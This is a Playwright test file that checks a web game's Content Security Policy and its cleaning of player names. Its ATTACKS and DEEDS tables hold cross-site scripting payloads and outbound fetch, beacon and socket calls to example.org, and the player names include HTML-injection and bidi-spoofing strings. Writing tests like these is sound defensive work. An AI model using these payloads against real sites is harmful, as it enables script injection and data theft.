"""The Content Security Policy allows only what the page needs; names of players are untrusted text and do no harm."""

import pytest
from playwright.sync_api import Browser, Page, expect

from test_page import CLICK_LIT, home, next_state, open_start, play_on

NARROW = {"width": 320, "height": 640}

# markup that an attacker might inject, with the directive that must block it; None: reported inside the frame
ATTACKS = {
    "img onerror": ("script-src-attr", "<img src='data:,' onerror='hacked = true'>"),
    "svg onbegin": ("script-src-attr", "<svg><set attributeName='x' onbegin='hacked = true'></set></svg>"),
    "style attribute": ("style-src-attr", "<p style='position: fixed'></p>"),
    "style sheet": ("style-src-elem", "<style>body { display: none }</style>"),
    "foreign picture": ("img-src", "<img src='https://example.org/x.png'>"),
    "foreign style": ("style-src-elem", "<link rel='stylesheet' href='https://example.org/x.css'>"),
    "frame": ("frame-src", "<iframe src='https://example.org/'></iframe>"),
    "frame with a page of its own": (None, "<iframe srcdoc='<script>parent.hacked = true</script>'></iframe>"),
    "object": ("object-src", "<object data='https://example.org/x'></object>"),
    "form": ("form-action", "<form action='https://example.org/' id='form'></form>"),
    "base": ("base-uri", "<base href='https://example.org/'>"),
}
DEEDS = {
    "script": (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), { textContent: 'hacked = true' }))",
    ),
    "foreign script": (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), { src: 'https://example.org/x.js' }))",
    ),
    "module in an address": ("script-src-elem", "import('data:text/javascript,hacked = true').catch(() => {})"),
    "foreign fetch": ("connect-src", "fetch('https://example.org/').catch(() => {})"),
    "beacon": ("connect-src", "navigator.sendBeacon('https://example.org/', 'secret')"),
    "socket": ("connect-src", "new WebSocket('wss://example.org/')"),
    "worker from text": ("worker-src", "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"),
}

VIOLATIONS = """async deed => {
  const heard = [];
  const hear = ({ effectiveDirective }) => heard.push(effectiveDirective);
  document.addEventListener('securitypolicyviolation', hear);
  try {
    if (deed.markup) document.body.insertAdjacentHTML('beforeend', `<div id="injected">${deed.markup}</div>`);
    document.querySelector('#form')?.requestSubmit();
    if (deed.script) await eval(deed.script);
  } catch {}
  for (let waited = 0; !heard.length && waited < 2000; waited += 20) await new Promise(done => setTimeout(done, 20));
  document.removeEventListener('securitypolicyviolation', hear);
  document.querySelector('#injected')?.remove();
  return [heard[0], window.hacked ?? false, document.body.checkVisibility()];
}"""


@pytest.mark.reports("Content Security Policy")
def test_nothing_injected_comes_to_life(browser: Browser, site: str):
    page = open_start(browser.new_context().new_page(), site)
    left = []
    page.on(
        "response", lambda answer: None if answer.url.startswith((site, "data:", "blob:")) else left.append(answer.url)
    )
    for name, (directive, markup) in ATTACKS.items():
        assert [name, *page.evaluate(VIOLATIONS, {"markup": markup})] == [name, directive, False, True]
    for name, (directive, script) in DEEDS.items():
        assert [name, *page.evaluate(VIOLATIONS, {"script": script})] == [name, directive, False, True]
    assert left == []
    page.context.close()


# --- names of players ------------------------------------------------------------------------------------

RIGHT = "\u202e\u2066\u200fevil\u2067"
HEBREW = "שרה בת אשר"
NAMES = ["<img src=x onerror=hacked=1><b>", RIGHT, "x" * 10_000, HEBREW, "W" * 10_000 + "\u0301" * 9000]
SHOWN = ["<img src=x onerror=hacke", "evil", "x" * 24, f"\u2068{HEBREW}\u2069", "W" * 24]

WRITE = """names => document.querySelectorAll('.place input').forEach((input, seat) => {
  input.removeAttribute('maxlength');
  input.value = names[seat];
  input.dispatchEvent(new Event('input', { bubbles: true }));
})"""

# renames a match and its players, as a foreign file or a damaged store might
CALL = """async names => {
  const { keptRows, keepMatch } = await import(new URL('saved/store.js', location.href).href);
  const [{ id, players }] = (await keptRows()).kept;
  const renamed = players.map((player, seat) => ({ ...player, name: names[seat] }));
  await keepMatch({ id, name: names[2] + names[1], players: renamed });
}"""

# elements that overflow the screen or a dialog horizontally
STICKS_OUT = """() => [
  document.scrollingElement, ...document.querySelectorAll('dialog[open], dialog[open] .sheet-content')]
  .filter(each => each.scrollWidth > each.clientWidth + 1).map(each => each.className || each.tagName)"""


def test_hostile_names_are_short_plain_and_keep_to_themselves(page: Page, site: str):
    page.set_viewport_size(NARROW)
    open_start(page, site)
    page.locator(".segment", has_text=str(len(NAMES))).click()
    page.evaluate(WRITE, NAMES)
    assert page.evaluate(STICKS_OUT) == []
    for seat in range(len(NAMES)):
        page.locator(".place select").nth(seat).select_option("")
    page.locator("details summary").click()
    page.locator("#seed").fill("7")
    page.locator(".play-button").click()
    assert next_state(page) == "curtain"
    title = page.locator("dialog.curtain h2").text_content()
    assert any(name in title for name in SHOWN)
    assert page.evaluate(STICKS_OUT) == []
    page.locator("dialog.curtain button").click()
    assert next_state(page) == "lit"
    assert set(page.locator(".mat .name").all_text_contents()) <= set(SHOWN)
    page.evaluate(CLICK_LIT, 0.5)
    play_on(page, seed=1, upto=9)
    words = page.evaluate("document.documentElement.outerHTML + document.title")
    assert "x" * 25 not in words and "W" * 25 not in words and "\u202e" not in words and "\u200f" not in words
    expect(page.locator("[src=x]")).to_have_count(0)
    page.locator(".tool.scores").evaluate("button => button.click()")
    expect(page.locator("dialog.sums")).to_be_visible()
    assert page.evaluate(STICKS_OUT) == []

    page.evaluate(CALL, NAMES)
    page.reload()
    next_state(page)
    home(page)  # the start screen lists the game
    expect(page.locator(".resume")).to_contain_text(SHOWN[3])
    assert page.evaluate(STICKS_OUT) == []
    words = page.evaluate("document.documentElement.outerHTML")
    assert "x" * 101 not in words and "\u202e" not in words and "\u200f" not in words


NAMING = """async names => {
  const { tidyName, ownDirection } = await import(new URL('ui/names.js', location.href).href);
  return names.map(name => ownDirection(tidyName(name)));
}"""


@pytest.mark.together
@pytest.mark.parametrize(
    "name, shown",
    [
        (None, ""),
        (7, ""),
        ({"toString": 1}, ""),
        ("  Ada \n\t Love ", "Ada Love"),
        ("\u200b\u00ad\ufeff", ""),
        ("👩‍🚀 Zoë", "👩‍🚀 Zoë"),
        ("é́́́́́́", None),
        (HEBREW, f"\u2068{HEBREW}\u2069"),
    ],
    ids=repr,
)
def test_a_name_is_made_fit_to_be_shown(naming: Page, name, shown):
    [found] = naming.evaluate(NAMING, [name])
    assert len(found) <= 6 if shown is None else found == shown


@pytest.fixture(scope="module")
def naming(browser: Browser, site: str):
    context = browser.new_context()
    page = context.new_page()
    page.goto(site)
    yield page
    context.close()
